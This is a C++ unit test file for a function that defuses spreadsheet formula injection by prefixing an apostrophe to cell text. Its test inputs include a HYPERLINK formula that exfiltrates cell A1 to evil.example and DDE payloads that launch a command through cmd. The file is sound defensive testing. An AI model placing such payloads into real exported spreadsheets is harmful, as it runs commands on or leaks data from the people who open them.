#include "common/spreadsheet_cell.hpp"

#include <gtest/gtest.h>

using namespace filet::spreadsheet_cell;

// The four names of issue 6 and the other starts OWASP lists.
TEST(SpreadsheetCell, DefusesFormulaStarts) {
  EXPECT_EQ(defuse("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")");
  EXPECT_EQ(defuse("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(defuse("@SUM(1+1)*cmd|' /C calc'!A0"), "'@SUM(1+1)*cmd|' /C calc'!A0");
  EXPECT_EQ(defuse("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
  EXPECT_EQ(defuse("\t=1+1"), "'\t=1+1");
  EXPECT_EQ(defuse("\r=1+1"), "'\r=1+1");
}

TEST(SpreadsheetCell, LeavesOrdinaryTextAlone) {
  for (std::string_view text : {"", "Halte-garderie", "a=b", "514-555-0100", "'", "'bonjour", "l'Entre-Maisons"})
    EXPECT_EQ(defuse(text), text);
}

TEST(SpreadsheetCell, RoundTripsEveryText) {
  for (std::string_view text : {"=1+1", "'=1+1", "''=1+1", "-", "'", "''", "'a", "plain", "", "@", "'@x", "+"}) {
    EXPECT_EQ(restore(defuse(text)), text) << text;
    EXPECT_FALSE(defuse(text).starts_with('=') || defuse(text).starts_with('+') || defuse(text).starts_with('-') ||
                 defuse(text).starts_with('@'))
        << text;
  }
}

TEST(SpreadsheetCell, RestoreKeepsApostrophesItDidNotAdd) {
  EXPECT_EQ(restore("'bonjour"), "'bonjour");
  EXPECT_EQ(restore("'"), "'");
  EXPECT_EQ(restore("'=x"), "=x");
}
